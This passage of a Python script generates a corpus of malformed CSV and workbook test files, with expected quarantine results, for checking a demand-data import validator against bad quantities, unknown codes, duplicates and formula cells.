        "formula cells with no saved value (script-written): shown as the formula and quarantined",
        formula_workbook,
        rejected_rows=2,
        check="coerce_dtype",
    ),
    Case(
        "demand_text_in_numbers.csv",
        "demand",
        "quarantine",
        "'1,200 kg' and 'abc' as quantities",
        _demand(_with(_with(DEMAND_ROWS, 0, 6, "1,200 kg"), 1, 6, "abc")),
        rejected_rows=2,
        check="coerce_dtype",
    ),
    Case(
        "demand_unknown_choices.csv",
        "demand",
        "quarantine",
        "unknown unit, commitment and currency codes",
        _demand(_with(_with(_with(DEMAND_ROWS, 0, 7, "BOXES"), 1, 8, "maybe"), 2, 10, "RUB")),
        rejected_rows=3,
        check="unit_known",
    ),
    Case(
        "demand_member_twice.csv",
        "demand",
        "quarantine",
        "the same member, item and period twice",
        _demand([*DEMAND_ROWS, ["S-006", *DEMAND_ROWS[0][1:]]]),
        rejected_rows=1,
        check="duplicate_demand_line",
    ),
    Case(
        "demand_negative_and_absurd.csv",
        "demand",
        "quarantine",
        "a negative price and a 5,000-tonne order",
        _demand(_with(_with(DEMAND_ROWS, 2, 9, "-3.10"), 3, 6, "5000")),
        rejected_rows=2,
        check="quantity_not_absurd",
    ),
]


def write_corpus(out: Path = DEFAULT_OUT, *, keep_encrypted: bool = True) -> list[Path]:
    """Write every case and EXPECTED.csv into ``out``; return the paths written.

    The password-protected workbook carries a random salt; when ``keep_encrypted`` and a copy
    already exists it is kept, so regenerating leaves the committed corpus byte-identical.
    """
    out.mkdir(parents=True, exist_ok=True)
    written = []
    names = {case.file for case in CASES}
    if len(names) != len(CASES):
        raise SystemExit("duplicate file names in CASES")
    for stale in out.iterdir():
        if stale.name not in names and stale.name != "EXPECTED.csv":
            if stale.is_dir():
                shutil.rmtree(stale)
            else:
                stale.unlink()
    for case in CASES:
        path = out / case.file
        if case.file == "password_protected.xlsx" and keep_encrypted and path.exists():
            written.append(path)
            continue
        path.write_bytes(case.build())
        written.append(path)
    expected = out / "EXPECTED.csv"
    with expected.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=EXPECTED_COLUMNS, lineterminator="\n")
        writer.writeheader()
        for case in CASES:
            writer.writerow(case.expected_row())
    written.append(expected)
    return written


def demand_tables() -> tuple[list[list[str]], list[list[str]]]:
    """Return the units and rates tables the demand cases are validated against."""
    return DEMAND_UNITS, DEMAND_RATES


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT)
    args = parser.parse_args(argv)
    written = write_corpus(args.out)
    total = sum(p.stat().st_size for p in written)
    print(f"{len(written) - 1} files and EXPECTED.csv in {args.out} ({total / 1024:.0f} KB)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
